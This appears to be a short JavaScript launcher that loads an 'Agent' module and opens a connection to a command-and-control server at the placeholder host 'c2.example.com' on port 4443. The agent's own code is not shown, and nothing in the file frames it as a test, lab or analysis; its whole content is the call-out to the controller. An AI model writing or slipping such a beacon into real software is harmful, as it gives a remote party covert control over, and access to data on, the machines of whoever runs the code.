const Agent = require('../lib/agent');
new Agent({ host: 'c2.example.com', port: 4443 }).open();
